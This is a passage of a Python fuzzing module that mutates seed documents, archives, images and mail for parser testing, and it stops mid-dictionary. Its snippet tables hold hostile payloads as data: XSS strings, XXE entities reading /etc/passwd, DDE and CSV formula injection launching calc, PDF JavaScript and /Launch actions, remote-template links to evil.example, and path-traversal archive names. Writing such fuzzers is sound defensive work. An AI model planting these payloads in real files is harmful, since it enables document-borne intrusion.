"""Structure-aware mutation of real seed files, as hypothesis strategies.

A mutant is a seed put through one to four mutators.  Every mutator takes ``draw`` and the
bytes and returns new bytes and a short description, so a failing example reads as the
seed's name and the steps taken.  Generic mutators work on any bytes; the others know one
format's structure (ZIP records and members, PDF tokens, PNG chunks, JPEG segments, RIFF
chunks, TIFF IFD entries, CFB sectors and directory entries, RTF control words, markup,
text encodings and CSV cells) and fall back to a byte flip where the structure is absent.
"""

from __future__ import annotations

import codecs
import hashlib
import io
import re
import warnings
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

from hypothesis import strategies as st

Mutator = Callable[[st.DrawFn, bytes], tuple[bytes, str]]


@dataclass(frozen=True)
class Seed:
    name: str
    type_name: str
    data: bytes


@dataclass(frozen=True)
class Mutant:
    seed: str
    steps: tuple[str, ...]
    data: bytes

    def __repr__(self) -> str:  # the bytes would drown the report; they are saved to a file
        digest = hashlib.sha256(self.data).hexdigest()[:16]
        return (
            f"Mutant(seed={self.seed!r}, steps={list(self.steps)!r}, size={len(self.data)}, sha256={digest})"
        )

    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:  # how hypothesis prints an example
        printer.text(repr(self))


INTERESTING_INTS = (0, 1, 2, 7, 8, 0x7F, 0x80, 0xFF, 0x100, 0x7FFF, 0x8000, 0xFFFF, 0x10000,
                    0x7FFFFFFF, 0x80000000, 0xFFFFFFFE, 0xFFFFFFFF)  # fmt: skip


def _index(draw: st.DrawFn, data: bytes, *, end: bool = False) -> int:
    return draw(st.integers(0, len(data) if end else max(len(data) - 1, 0)))


def _interesting(draw: st.DrawFn, width: int) -> int:
    value = draw(st.one_of(st.sampled_from(INTERESTING_INTS), st.integers(0, 2 ** (8 * width) - 1)))
    return value & (2 ** (8 * width) - 1)


def _put_int(draw: st.DrawFn, data: bytes, at: int, width: int, order: str) -> tuple[bytes, str]:
    """Overwrite the ``width``-byte integer at ``at`` (clipped to the data) with a hostile value."""
    at = min(at, max(len(data) - width, 0))
    value = _interesting(draw, width)
    raw = value.to_bytes(width, "little" if order == "<" else "big")
    return data[:at] + raw + data[at + width :], f"int{width * 8}{order}@{at}={value:#x}"


# ── generic ──────────────────────────────────────────────────────────────────────────


def flip_bytes(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    if not data:
        return b"\0", "flip:empty"
    out = bytearray(data)
    at = _index(draw, data)
    for offset in range(draw(st.integers(1, 8))):
        if at + offset < len(out):
            out[at + offset] ^= draw(st.integers(1, 255))
    return bytes(out), f"flip@{at}"


def insert_bytes(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    at = _index(draw, data, end=True)
    chunk = draw(st.one_of(st.binary(min_size=1, max_size=64), st.sampled_from(_HOSTILE_SNIPPETS)))
    return data[:at] + chunk + data[at:], f"insert@{at}+{len(chunk)}"


def delete_range(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    at = _index(draw, data)
    length = draw(st.integers(1, 256))
    return data[:at] + data[at + length :], f"delete@{at}-{length}"


def duplicate_range(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    start = _index(draw, data)
    piece = data[start : start + draw(st.integers(1, 512))]
    at = _index(draw, data, end=True)
    return data[:at] + piece * draw(st.integers(1, 4)) + data[at:], f"duplicate@{start}->{at}"


def truncate(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    keep = _index(draw, data, end=True)
    return data[:keep], f"truncate@{keep}"


def overwrite_int(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    width = draw(st.sampled_from((1, 2, 4)))
    return _put_int(draw, data, _index(draw, data), width, draw(st.sampled_from("<>")))


def header_int(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    """A field of a fixed header (BMP, GIF, TIFF, CFB...): aligned, after the first 6 bytes
    (the signature, which the generic mutators already break often enough)."""
    width = draw(st.sampled_from((1, 2, 4)))
    first = -(-6 // width)
    at = draw(st.integers(first, max(min(len(data), 128) // width, first))) * width
    return _put_int(draw, data, at, width, draw(st.sampled_from("<>")))


GENERIC: tuple[Mutator, ...] = (
    flip_bytes,
    insert_bytes,
    delete_range,
    duplicate_range,
    truncate,
    overwrite_int,
)

_HOSTILE_SNIPPETS = (
    b"\0", b"\xff\xfe", b"\xef\xbb\xbf", b"\r\n\r\n", b"\x1b[2J", "\u202e".encode(),
    b"<script>alert(1)</script>", b"javascript:alert(1)", b"%PDF-1.7\n", b"PK\x03\x04",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"{\\rtf1 ", b"MZ\x90\x00", b"\x89PNG\r\n\x1a\n",
    b"=cmd|' /C calc'!A0", b"/JavaScript", b"<!ENTITY x SYSTEM \"file:///etc/passwd\">",
)  # fmt: skip


# ── ZIP, OOXML ───────────────────────────────────────────────────────────────────────

#: record signature → (offset, width) of its fields worth corrupting
_ZIP_FIELDS = {
    b"PK\x03\x04": ((4, 2), (6, 2), (8, 2), (14, 4), (18, 4), (22, 4), (26, 2), (28, 2)),
    b"PK\x01\x02": ((6, 2), (8, 2), (10, 2), (16, 4), (20, 4), (24, 4), (28, 2), (30, 2), (32, 2),
                    (34, 2), (38, 4), (42, 4)),
    b"PK\x05\x06": ((4, 2), (6, 2), (8, 2), (10, 2), (12, 4), (16, 4), (20, 2)),
}  # fmt: skip
_MAX_MEMBER_READ = 2 * 2**20


def zip_record_field(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    """A local header, central directory entry or end record field: sizes, offsets, method, flags."""
    records = [(m.start(), sig) for sig in _ZIP_FIELDS for m in re.finditer(re.escape(sig), data)]
    if not records:
        return flip_bytes(draw, data)
    start, signature = draw(st.sampled_from(sorted(records)))
    offset, width = draw(st.sampled_from(_ZIP_FIELDS[signature]))
    out, step = _put_int(draw, data, start + offset, width, "<")
    return out, f"zip[{signature[2]}{signature[3]}]{step}"


def _members(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]] | None:
    """The members of a small, readable archive; None when it is not one (bombs included)."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            infos = archive.infolist()
            if len(infos) > 200 or sum(i.file_size for i in infos) > 8 * _MAX_MEMBER_READ:
                return None
            if any(i.file_size > _MAX_MEMBER_READ for i in infos):
                return None
            return [(info, archive.read(info)) for info in infos]
    except Exception:  # whatever stops zipfile means there are no members to work on
        return None


def _zip_of(members: Sequence[tuple[zipfile.ZipInfo | str, bytes]], compression: int) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are one of the mutations
        with zipfile.ZipFile(buffer, "w", compression) as archive:
            for info, body in members:
                name = info if isinstance(info, str) else info.filename
                archive.writestr(name, body)
    return buffer.getvalue()


_MEMBER_NAMES = (
    "../evil.txt", "/etc/cron.d/x", "a\\..\\..\\b.txt", "word/vbaProject.bin", "xl/vbaProject.bin",
    "[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels", "word/embeddings/oleObject1.bin",
    "customUI/customUI14.xml", "名前.txt", "CON", "a" * 300, "x.exe", "docProps/core.xml", "mimetype",
)  # fmt: skip


def zip_members(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    """Rewrite the archive with one member mutated, renamed, duplicated, dropped or added."""
    members = _members(data)
    if members is None:
        return zip_record_field(draw, data)
    entries: list[tuple[zipfile.ZipInfo | str, bytes]] = list(members)
    action = draw(st.sampled_from(("mutate", "mutate", "rename", "duplicate", "drop", "add")))
    index = draw(st.integers(0, len(entries) - 1)) if entries else 0
    if not entries or action == "add":
        name = draw(st.sampled_from(_MEMBER_NAMES))
        entries.insert(index, (name, draw(st.sampled_from(_HOSTILE_SNIPPETS))))
        step = f"add {name!r}"
    elif action == "mutate":
        info, body = entries[index]
        name = info if isinstance(info, str) else info.filename
        mutator = (
            markup if name.endswith((".xml", ".rels", ".vml", ".html")) else draw(st.sampled_from(GENERIC))
        )
        body, inner = mutator(draw, body)
        entries[index] = (info, body)
        step = f"member {name!r}: {inner}"
    elif action == "rename":
        entries[index] = (draw(st.sampled_from(_MEMBER_NAMES)), entries[index][1])
        step = f"rename #{index}"
    elif action == "duplicate":
        entries.insert(draw(st.integers(0, len(entries))), entries[index])
        step = f"duplicate #{index}"
    else:
        del entries[index]
        step = f"drop #{index}"
    compression = draw(st.sampled_from((zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED)))
    return _zip_of(entries, compression), step


# ── markup: XML, HTML, SVG ───────────────────────────────────────────────────────────

_MARKUP_SNIPPETS = (
    b"<script>alert(1)</script>", b'<a href="javascript:alert(1)">x</a>', b"<img src=x onerror=alert(1)>",
    b"<![CDATA[<script>alert(1)</script>]]>", b'<?xml-stylesheet href="http://evil.example/x.xsl"?>',
    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO cmd "/k calc"</w:instrText></w:r>',
    b'<foreignObject><iframe src="http://evil.example"/></foreignObject>', b'<use href="http://evil.example/x.svg#a"/>',
    b"<style>@import url(http://evil.example/x.css)</style>", b"<!-- -- -->", b"&#0;&#xD800;&xxe;",
    b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b"<a>" * 300, b"</a></b></c>",
    b'<object data="x.swf"/><embed src="x"/>', b'<meta http-equiv="refresh" content="0;url=http://x">',
    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
)  # fmt: skip
_ATTRIBUTE_VALUES = (
    b"javascript:alert(1)", b"http://evil.example/x", b"file:///etc/passwd", b"", b"-1", b"99999999999",
    b"data:text/html,<script>alert(1)</script>", b"\\\\server\\share\\x", b"#x", b"vbscript:x",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)".encode(), b"External", b"../../../x", b"&#106;avascript:alert(1)",
)  # fmt: skip
_ATTRIBUTE = re.compile(rb'([\w:.-]+)="([^"]*)"')
_TAG = re.compile(rb"<[^<>]{0,400}>")


def markup(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    tags = [m.span() for m in _TAG.finditer(data)]
    action = draw(st.sampled_from(("insert", "insert", "attribute", "drop_tag", "duplicate_tag")))
    if not tags:
        action = "insert"
    if action == "insert":
        at = draw(st.sampled_from([end for _, end in tags] or [len(data)]))
        snippet = draw(st.sampled_from(_MARKUP_SNIPPETS))
        return data[:at] + snippet + data[at:], f"markup insert@{at}"
    start, end = draw(st.sampled_from(tags))
    if action == "drop_tag":
        return data[:start] + data[end:], f"markup drop@{start}"
    if action == "duplicate_tag":
        return data[:end] + data[start:end] + data[end:], f"markup duplicate@{start}"
    attributes = list(_ATTRIBUTE.finditer(data, start, end))
    if not attributes:
        return data[:end] + data[start:end] + data[end:], f"markup duplicate@{start}"
    attribute = draw(st.sampled_from(attributes))
    value = draw(st.sampled_from(_ATTRIBUTE_VALUES))
    name = attribute.group(1)
    if draw(st.booleans()):
        name = draw(
            st.sampled_from((b"onload", b"href", b"xlink:href", b"style", b"TargetMode", b"r:id", name))
        )
    replaced = name + b'="' + value + b'"'
    return data[: attribute.start()] + replaced + data[
        attribute.end() :
    ], f"markup attribute@{attribute.start()}"


# ── PDF ──────────────────────────────────────────────────────────────────────────────

_PDF_NAMES = (
    b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/Launch", b"/URI", b"/SubmitForm", b"/ImportData",
    b"/EmbeddedFile", b"/EmbeddedFiles", b"/RichMedia", b"/XFA", b"/AcroForm", b"/Encrypt", b"/ObjStm",
    b"/XRef", b"/Type", b"/Page", b"/Pages", b"/Kids", b"/Count", b"/Parent", b"/Resources", b"/Contents",
    b"/Length", b"/Filter", b"/DecodeParms", b"/FlateDecode", b"/LZWDecode", b"/ASCIIHexDecode",
    b"/ASCII85Decode", b"/RunLengthDecode", b"/DCTDecode", b"/JBIG2Decode", b"/CCITTFaxDecode", b"/JPXDecode",
    b"/Crypt", b"/Font", b"/XObject", b"/Image", b"/Form", b"/Annots", b"/Link", b"/Names", b"/Dests",
    b"/Outlines", b"/Next", b"/Widget", b"/MediaBox", b"/Predictor", b"/Colors", b"/BitsPerComponent",
    b"/Columns", b"/Width", b"/Height", b"/ColorSpace", b"/Indexed", b"/ICCBased", b"/Pattern", b"/Shading",
    b"/J#61vaScript", b"/#4A#53", b"/",
)  # fmt: skip
_PDF_NUMBERS = (b"0", b"-1", b"1", b"2147483647", b"2147483648", b"4294967296", b"99999999999999999999",
                b"1.5", b"-0", b"1e10", b"65535", b"3")  # fmt: skip
_PDF_SNIPPETS = (
    b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b"/AA << /O << /S /Launch /F (cmd.exe) >> >>",
    b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >>", b"/Type /EmbeddedFile",
    b"/URI (javascript:alert(1))", b"/Encrypt 1 0 R", b"/Kids [1 0 R 1 0 R]", b"/Parent 1 0 R",
    b"/Count 999999999", b"/Filter [/FlateDecode /FlateDecode /ASCIIHexDecode]", b"/Length 9999999",
    b"/DecodeParms << /Predictor 15 /Columns 99999999 /Colors 99 >>", b"/Width 100000 /Height 100000",
    b"/Contents [1 0 R 2 0 R 3 0 R]", b"<< << << << << << << << >> >> >> >> >> >> >> >>", b"[[[[[[[[[[[[",
)  # fmt: skip
_PDF_NAME = re.compile(rb"/[A-Za-z0-9#]+")
_PDF_NUMBER = re.compile(rb"(?<![\w.#/-])-?\d+(?:\.\d+)?(?![\w.])")
_PDF_OBJECT = re.compile(rb"\d+ \d+ obj")
_PDF_KEYWORDS = (b"endstream", b"endobj", b"stream", b"xref", b"trailer", b"startxref", b"obj", b">>", b"<<")


def pdf_token(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    action = draw(st.sampled_from(("name", "number", "length", "object", "snippet", "keyword", "xref")))
    if action in ("name", "number", "length", "object"):
        pattern = {"name": _PDF_NAME, "number": _PDF_NUMBER, "object": _PDF_OBJECT}.get(action)
        spans = (
            [m.span(1) for m in re.finditer(rb"/Length\s+(\d+)", data)]
            if pattern is None
            else [m.span() for m in pattern.finditer(data[: 4 * 2**20])]
        )
        if spans:
            start, end = draw(st.sampled_from(spans))
            if action == "name":
                token = draw(st.sampled_from(_PDF_NAMES))
            elif action == "object":
                token = draw(st.sampled_from(_PDF_NUMBERS)) + b" 0 obj"
            else:
                token = draw(st.sampled_from(_PDF_NUMBERS))
            return data[:start] + token + data[end:], f"pdf {action}@{start}={token[:24]!r}"
    if action == "keyword":
        keyword = draw(st.sampled_from(_PDF_KEYWORDS))
        places = [m.start() for m in re.finditer(re.escape(keyword), data[: 4 * 2**20])]
        if places:
            at = draw(st.sampled_from(places))
            return data[:at] + data[at + len(keyword) :], f"pdf drop {keyword.decode()}@{at}"
    if action == "xref" and (at := data.rfind(b"xref")) > 0:
        return data[:at] + draw(st.sampled_from((b"", b"startxref\n999999\n%%EOF\n"))), f"pdf cut xref@{at}"
    places = [m.end() for m in re.finditer(rb"<<", data[: 4 * 2**20])] or [len(data)]
    at = draw(st.sampled_from(places))
    snippet = draw(st.sampled_from(_PDF_SNIPPETS))
    return data[:at] + b" " + snippet + b" " + data[at:], f"pdf insert@{at}"


# ── images ───────────────────────────────────────────────────────────────────────────


def _png_chunks(data: bytes) -> list[tuple[int, int]]:
    """(start, end) of each chunk after the signature, as far as the lengths hold."""
    chunks, at = [], 8
    while at + 12 <= len(data) and len(chunks) < 10_000:
        end = at + 12 + int.from_bytes(data[at : at + 4], "big")
        if end > len(data):
            break
        chunks.append((at, end))
        at = end
    return chunks


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


_PNG_CHUNKS = (
    _png_chunk(b"tEXt", b"Comment\0<script>alert(1)</script>"), _png_chunk(b"eXIf", b"MM\0*\0\0\0\x08" + bytes(8)),
    _png_chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(200))), _png_chunk(b"zTXt", b"k\0\0" + zlib.compress(b"a" * 99999)),
    _png_chunk(b"acTL", bytes(8)), _png_chunk(b"ruSt", b"private"), _png_chunk(b"PLTE", bytes(3 * 256)),
    _png_chunk(b"IDAT", zlib.compress(bytes(4096))), _png_chunk(b"IEND", b""), _png_chunk(b"tRNS", bytes(300)),
)  # fmt: skip


def png_chunk(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    chunks = _png_chunks(data)
    if not data.startswith(b"\x89PNG") or not chunks:
        return flip_bytes(draw, data)
    start, end = draw(st.sampled_from(chunks))
    action = draw(st.sampled_from(("length", "body", "body", "duplicate", "drop", "insert")))
    if action == "length":
        out, step = _put_int(draw, data, start, 4, ">")
    elif action == "body":  # the CRC is fixed so that the decoder, not the checksum, meets the change
        body, inner = draw(st.sampled_from((flip_bytes, overwrite_int, truncate, insert_bytes)))(
            draw, data[start + 8 : end - 4]
        )
        out, step = data[:start] + _png_chunk(data[start + 4 : start + 8], body) + data[end:], f"body {inner}"
    elif action == "duplicate":
        out, step = data[:end] + data[start:end] + data[end:], "duplicate"
    elif action == "drop":
        out, step = data[:start] + data[end:], "drop"
    else:
        out, step = data[:start] + draw(st.sampled_from(_PNG_CHUNKS)) + data[start:], "insert"
    return out, f"png chunk@{start} {step}"


def _jpeg_segments(data: bytes) -> list[tuple[int, int]]:
    """(start, end) of each marker segment before the scan data."""
    segments, at = [], 2
    while at + 4 <= len(data) and data[at] == 0xFF and len(segments) < 1000:
        marker = data[at + 1]
        end = at + 2 + int.from_bytes(data[at + 2 : at + 4], "big")
        segments.append((at, min(end, len(data))))
        if marker == 0xDA:
            break
        at = end
    return segments


_JPEG_SEGMENTS = (
    b"\xff\xfe\x00\x10<script>x</scr>", b"\xff\xe1\x00\x10Exif\0\0MM\0*\0\0\0\x08",
    b"\xff\xed\x00\x10Photoshop 3.0\0", b"\xff\xe2\x00\x0eICC_PROFILE\0", b"\xff\xd9", b"\xff\xd8",
    b"\xff\xdd\x00\x04\x00\x01", b"\xff\xef\x00\x02", b"\xff\xc0\x00\x0b\x08\xff\xff\xff\xff\x01\x01\x11\x00",
)  # fmt: skip


def jpeg_segment(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    segments = _jpeg_segments(data)
    if not data.startswith(b"\xff\xd8") or not segments:
        return flip_bytes(draw, data)
    start, end = draw(st.sampled_from(segments))
    action = draw(st.sampled_from(("length", "field", "duplicate", "drop", "insert")))
    if action == "length":
        out, step = _put_int(draw, data, start + 2, 2, ">")
    elif action == "field":  # SOF dimensions, component counts, table ids, ...
        at = start + 4 + draw(st.integers(0, max(end - start - 5, 0)))
        out, step = _put_int(draw, data, at, draw(st.sampled_from((1, 2))), ">")
    elif action == "duplicate":
        out, step = data[:end] + data[start:end] + data[end:], "duplicate"
    elif action == "drop":
        out, step = data[:start] + data[end:], "drop"
    else:
        out, step = data[:start] + draw(st.sampled_from(_JPEG_SEGMENTS)) + data[start:], "insert"
    return out, f"jpeg segment@{start} {step}"


def riff_chunk(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    """WebP: the RIFF size, a chunk size, or the VP8X flags and canvas."""
    if not data.startswith(b"RIFF") or len(data) < 20:
        return flip_bytes(draw, data)
    starts, at = [4], 12
    while at + 8 <= len(data) and len(starts) < 1000:
        starts.append(at + 4)
        at += 8 + int.from_bytes(data[at + 4 : at + 8], "little") + (data[at + 4] & 1)
    at = draw(st.sampled_from(starts))
    if draw(st.booleans()) and (vp8x := data.find(b"VP8X")) > 0:
        at = vp8x + 8 + draw(st.sampled_from((0, 4, 7)))
    out, step = _put_int(draw, data, at, draw(st.sampled_from((1, 2, 3, 4))), "<")
    return out, f"riff {step}"


def tiff_entry(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    """A field of an entry of the first IFD: tag, type, count or value/offset."""
    order = {b"II": "<", b"MM": ">"}.get(data[:2])
    if order is None or len(data) < 8:
        return header_int(draw, data)
    ifd = int.from_bytes(data[4:8], "little" if order == "<" else "big")
    if ifd + 2 > len(data):
        return _put_int(draw, data, 4, 4, order)
    count = int.from_bytes(data[ifd : ifd + 2], "little" if order == "<" else "big")
    entry = ifd + 2 + 12 * draw(st.integers(0, max(min(count, 200) - 1, 0)))
    offset, width = draw(st.sampled_from(((0, 2), (2, 2), (4, 4), (8, 4), (8, 2))))
    out, step = _put_int(draw, data, entry + offset, width, order)
    return out, f"tiff ifd {step}"


# ── CFB / OLE ────────────────────────────────────────────────────────────────────────

_CFB_SPECIAL = (0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFC, 0, 1, 0x7FFFFFFF)
_CFB_NAMES = ("Macros", "VBA", "_VBA_PROJECT_CUR", "\x01Ole10Native", "ObjectPool", "\x05SummaryInformation",
              "Workbook", "WordDocument", "PowerPoint Document", "\x01CompObj", "1Table")  # fmt: skip
_CFB_ENTRY_FIELDS = (
    (0x40, 2),
    (0x42, 1),
    (0x43, 1),
    (0x44, 4),
    (0x48, 4),
    (0x4C, 4),
    (0x74, 4),
    (0x78, 4),
    (0x7C, 4),
)


def cfb_structure(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    """Header fields, a FAT entry (sector chains), or a directory entry of a compound file."""
    if not data.startswith(b"\xd0\xcf\x11\xe0") or len(data) < 1024:
        return header_int(draw, data)
    shift = int.from_bytes(data[0x1E:0x20], "little")
    size = 1 << shift if shift in (9, 12) else 512
    action = draw(st.sampled_from(("header", "fat", "fat", "directory", "directory", "rename")))
    if action == "header":
        at = draw(st.sampled_from((0x1A, 0x1E, 0x20, 0x2C, 0x30, 0x38, 0x3C, 0x40, 0x44, 0x48, 0x4C)))
        out, step = _put_int(draw, data, at, 2 if at in (0x1A, 0x1E, 0x20) else 4, "<")
        return out, f"cfb header {step}"
    if action == "fat":
        fat_sector = int.from_bytes(data[0x4C:0x50], "little")
        base = (fat_sector + 1) * size
        if base + size > len(data):
            return _put_int(draw, data, 0x4C, 4, "<")
        at = base + 4 * draw(st.integers(0, size // 4 - 1))
        value = draw(st.one_of(st.sampled_from(_CFB_SPECIAL), st.integers(0, len(data) // size + 2)))
        return data[:at] + value.to_bytes(4, "little") + data[at + 4 :], f"cfb fat@{at}={value:#x}"
    base = (int.from_bytes(data[0x30:0x34], "little") + 1) * size
    if base + 128 > len(data):
        return _put_int(draw, data, 0x30, 4, "<")
    entry = base + 128 * draw(st.integers(0, size // 128 - 1))
    if action == "rename":
        name = draw(st.sampled_from(_CFB_NAMES))
        raw = (name + "\0").encode("utf-16-le").ljust(64, b"\0")
        out = data[:entry] + raw + (2 * len(name) + 2).to_bytes(2, "little") + data[entry + 66 :]
        return out, f"cfb rename@{entry}={name!r}"
    offset, width = draw(st.sampled_from(_CFB_ENTRY_FIELDS))
    out, step = _put_int(draw, data, entry + offset, width, "<")
    return out, f"cfb entry {step}"


# ── RTF ──────────────────────────────────────────────────────────────────────────────

_RTF_WORDS = (
    b"\\object", b"\\objdata", b"\\objemb", b"\\objupdate", b"\\objautlink", b"\\bin", b"\\pict", b"\\field",
    b"\\fldinst", b"\\*\\template", b"\\rtf1", b"\\ansicpg932", b"\\u-1", b"\\uc0", b"\\uc9", b"\\datastore",
    b"\\result", b"\\shppict", b"\\nonshppict", b"\\sp", b"\\sn", b"\\sv", b"\\*", b"\\par", b"\\'81", b"\\'",
    b"\\pngblip", b"\\wmetafile8", b"\\emfblip", b"\\fonttbl", b"\\stylesheet", b"\\listtext", b"\\ud",
)  # fmt: skip
_RTF_GROUPS = (
    b"{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000020000000800000050616b6167650000}}",
    b'{\\field{\\*\\fldinst DDEAUTO cmd "/k calc"}{\\fldrslt x}}', b"{\\*\\template http://evil.example/t.dot}",
    b"{\\pict\\pngblip 89504e470d0a1a0a}", b"\\bin5 abcde", b"\\bin999999 x", b"{" * 3000, b"}" * 20,
    b"{\\*\\objdata " + b"0" * 10000 + b"}", b"{\\upr{x}{\\*\\ud{y}}}", b"\\u12354?\\u-3?", b"{\\rtf1 {",
)  # fmt: skip
_RTF_CONTROL = re.compile(rb"\\[a-z]{1,32}(-?\d{1,10})?")


def rtf_control(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    words = list(_RTF_CONTROL.finditer(data[: 4 * 2**20]))
    action = draw(st.sampled_from(("word", "parameter", "group", "brace")))
    if action == "word" and words:
        word = draw(st.sampled_from(words))
        token = draw(st.sampled_from(_RTF_WORDS))
        return data[: word.start()] + token + data[word.end() :], f"rtf word@{word.start()}={token.decode()}"
    if action == "parameter" and words:
        word = draw(st.sampled_from(words))
        number = draw(
            st.sampled_from((b"0", b"-1", b"1", b"65535", b"2147483647", b"-2147483648", b"99999999999"))
        )
        name_end = word.start(1) if word.group(1) else word.end()
        return data[:name_end] + number + data[
            word.end() :
        ], f"rtf parameter@{word.start()}={number.decode()}"
    if action == "brace":
        places = [i for i, byte in enumerate(data[: 4 * 2**20]) if byte in b"{}"]
        if places:
            at = draw(st.sampled_from(places))
            return data[:at] + draw(st.sampled_from((b"", b"{", b"}", b"{}"))) + data[
                at + 1 :
            ], f"rtf brace@{at}"
    at = _index(draw, data, end=True)
    return data[:at] + draw(st.sampled_from(_RTF_GROUPS)) + data[at:], f"rtf group@{at}"


# ── text, CSV ────────────────────────────────────────────────────────────────────────

_ENCODINGS = (
    "utf-8",
    "utf-8-sig",
    "utf-16",
    "utf-16-be",
    "cp932",
    "euc_jp",
    "iso2022_jp",
    "latin-1",
    "utf-32",
)
_CELLS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "＝1+1", "＋1", "\t=1", '"=1"', '=HYPERLINK("http://x")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", '"a""b', '"unterminated', "\x00", "\x1b[31m", "\u202e", "\ufeff", "\r",
    "𠮷野家", "ｶﾀｶﾅ", "①②", "\ud800", "a" * 70_000,
)  # fmt: skip


def text_encoding(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    """Decode as well as it goes, re-encode in another encoding (BOMs, UTF-16, ISO-2022-JP...)."""
    source = draw(st.sampled_from(("utf-8", "cp932", "euc_jp", "latin-1")))
    text = data.decode(source, errors="replace")
    target = draw(st.sampled_from(_ENCODINGS))
    return text.encode(target, errors="replace"), f"text {source}->{target}"


def csv_cell(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    """A hostile cell at the start of a line or after a separator; line endings mixed."""
    places = [0] + [i + 1 for i, byte in enumerate(data[: 2**20]) if byte in b",\t;\n"]
    at = draw(st.sampled_from(places))
    cell = draw(st.sampled_from(_CELLS)).encode("utf-8", errors="surrogatepass")
    if draw(st.booleans()):
        cell = codecs.encode(cell.decode("utf-8", errors="surrogatepass"), "cp932", errors="replace")
    ending = draw(st.sampled_from((b"", b"\r\n", b"\r", b"\n")))
    return data[:at] + cell + ending + data[at:], f"csv cell@{at}"


# ── mail ─────────────────────────────────────────────────────────────────────────────

_MAIL_LINES = (
    b"Content-Type: multipart/mixed; boundary=\"x\"", b"Content-Type: text/html; charset=ISO-2022-JP",
    b"Content-Transfer-Encoding: base64", b"Content-Transfer-Encoding: quoted-printable",
    b"Content-Disposition: attachment; filename*0*=Shift_JIS''%95%5C; filename*1*=.exe",
    b'Content-Disposition: attachment; filename="=?ISO-2022-JP?B?GyRCJEgbKEI=?=.docm"',
    b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data", b"Content-Type: message/rfc822",
    b"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"", b"Subject: =?x?B?***?=",
    b"From: \x8eR\x93c <a@b>", b"Subject: \x1b$B$3$s\x1b(B", b"--x", b"--x--", b"", b" folded",
    b"<a href=\"javascript:alert(1)\">x</a> \\\\server\\share http://evil.example/", b"=\r\n", b"begin 644 x.exe",
)  # fmt: skip


def mail_line(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
    """A header or boundary line inserted, dropped, duplicated or replaced at a line start."""
    starts = [0] + [i + 1 for i, byte in enumerate(data[: 2**20]) if byte == 0x0A]
    at = draw(st.sampled_from(starts))
    end = data.find(b"\n", at)
    end = len(data) if end == -1 else end + 1
    action = draw(st.sampled_from(("insert", "insert", "drop", "duplicate", "replace")))
    line = draw(st.sampled_from(_MAIL_LINES)) + b"\r\n"
    if action == "insert":
        return data[:at] + line + data[at:], f"mail insert@{at}"
    if action == "drop":
        return data[:at] + data[end:], f"mail drop@{at}"
    if action == "duplicate":
        return data[:end] + data[at:end] + data[end:], f"mail duplicate@{at}"
    return data[:at] + line + data[end:], f"mail replace@{at}"


# ── families and the strategy ────────────────────────────────────────────────────────

FAMILY_MUTATORS: dict[str, tuple[Mutator, ...]] = {
    "zip": (zip_record_field, zip_members, zip_members),
    "pdf": (pdf_token,),
    "png": (png_chunk, png_chunk, header_int),
    "jpeg": (jpeg_segment, jpeg_segment, header_int),
    "webp": (riff_chunk,),
    "tiff": (tiff_entry, tiff_entry, header_int),
    "gif": (header_int,),
    "bmp": (header_int,),
    "cfb": (cfb_structure,),
    "rtf": (rtf_control,),
    "markup": (markup, markup, text_encoding),
    "text": (text_encoding, csv_cell, csv_cell),
    "archive": (header_int,),  # archive headers: sizes, counts and offsets near the start
    "mail": (mail_line, mail_line, text_encoding),
    "none": (),
}
FAMILY_OF_TYPE = {
    "pdf": "pdf", "rtf": "rtf", "html": "markup", "svg": "markup", "txt": "text", "csv": "text",
    **dict.fromkeys(("zip", "docx", "docm", "xlsx", "xlsm", "pptx", "pptm", "xlsb"), "zip"),
    **dict.fromkeys(("doc", "xls", "ppt", "msg"), "cfb"),
    "eml": "mail",
